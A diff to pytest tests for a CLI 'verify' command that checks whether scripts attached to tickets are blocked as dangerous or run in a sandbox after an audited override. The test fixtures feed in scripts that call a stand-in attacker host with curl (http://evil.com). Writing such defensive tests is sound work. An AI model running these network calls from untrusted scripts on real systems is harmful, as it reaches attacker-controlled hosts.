@@ -48,20 +48,17 @@ def test_s030_a_finding_that_may_be_confirmed_is_named_and_anything_but_a_yes_bl
     assert outcome["verification_output"] == ""
 
 
-@pytest.mark.parametrize("options", [["--yes"], ["--allow-network", "evil.com"]])
-def test_s030_unattended_or_with_network_nobody_is_asked_about_it(ticket, cli, options):
-    done = cli("verify", ticket(script="curl http://evil.com\n"), *options, "--format", "json", answer="y\n")
+def test_s030_with_network_nobody_is_asked_about_it(ticket, cli):
+    options = ("--allow-network", "evil.com", "--format", "json")
+    done = cli("verify", ticket(script="curl http://evil.com\n"), *options, answer="y\n")
     assert json.loads(done.stdout)["status"] == "BLOCKED_DANGEROUS_SCRIPT"
     assert "[y/N]" not in done.stderr
 
 
 @pytest.mark.traced
-@pytest.mark.parametrize("options", [[], ["--allow-dangerous"]])
-def test_s035_an_override_names_the_findings_asks_is_audited_and_still_runs_in_the_sandbox(
-    ticket, cli, tmp_path, options
-):
+def test_s035_an_override_names_the_findings_asks_is_audited_and_still_runs_in_the_sandbox(ticket, cli, tmp_path):
     script = "curl --max-time 2 http://evil.com && echo REACHED\necho done\n"
-    done = cli("verify", ticket(script=script), *options, "--format", "json", answer="y\n")
+    done = cli("verify", ticket(script=script), "--allow-dangerous", "--format", "json", answer="y\n")
     assert "curl" in done.stderr
     assert "in spite of" in done.stderr
     outcome = json.loads(done.stdout)
